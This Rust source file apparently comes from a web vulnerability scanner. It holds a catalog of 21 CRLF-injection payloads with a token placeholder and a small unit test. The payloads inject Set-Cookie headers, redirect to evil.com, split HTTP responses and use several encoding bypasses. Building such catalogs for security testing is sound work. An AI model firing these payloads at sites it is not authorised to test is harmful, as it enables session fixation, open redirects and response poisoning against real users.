/// Placeholder replaced by a fresh token on every attempt
pub const TOKEN_PLACEHOLDER: &str = "TOKEN";

pub static CRLF_PAYLOADS: &[&str] = &[
    // Set-Cookie
    "%0d%0aSet-Cookie:TOKEN=injected",
    "%0d%0aSet-Cookie: TOKEN=injected",
    "%0aSet-Cookie:TOKEN=injected",
    "%0dSet-Cookie:TOKEN=injected",
    // double encoding
    "%250d%250aSet-Cookie:TOKEN=injected",
    "%25%30%64%25%30%61Set-Cookie:TOKEN=injected",
    // unicode
    "%E5%98%8D%E5%98%8ASet-Cookie:TOKEN=injected",
    "%u000d%u000aSet-Cookie:TOKEN=injected",
    // Location
    "%0d%0aLocation:https://evil.com",
    "%0d%0aLocation: https://TOKEN.evil.com",
    // custom headers
    "%0d%0aX-Injected:TOKEN",
    "%0d%0aX-TOKEN:injected",
    "%0d%0aContent-Type:text/html",
    // response splitting
    "%0d%0a%0d%0a<html>TOKEN</html>",
    "%0d%0aContent-Length:35%0d%0aX-Injected:header%0d%0a%0d%0aTOKEN",
    // separators
    "%0d%09Set-Cookie:TOKEN=injected",
    "%%0d0aSet-Cookie:TOKEN=injected",
    "%0d%0a%20Set-Cookie:TOKEN=injected",
    "%00%0d%0aSet-Cookie:TOKEN=injected",
    // path
    "/%0d%0aSet-Cookie:TOKEN=injected",
    "//%0d%0aSet-Cookie:TOKEN=injected",
];

pub fn instantiate(template: &str, token: &str) -> String {
    template.replace(TOKEN_PLACEHOLDER, token)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_catalog_size() {
        assert_eq!(CRLF_PAYLOADS.len(), 21);
        assert_eq!(
            instantiate("%0d%0aX-TOKEN:injected", "loxsabc"),
            "%0d%0aX-loxsabc:injected"
        );
    }
}
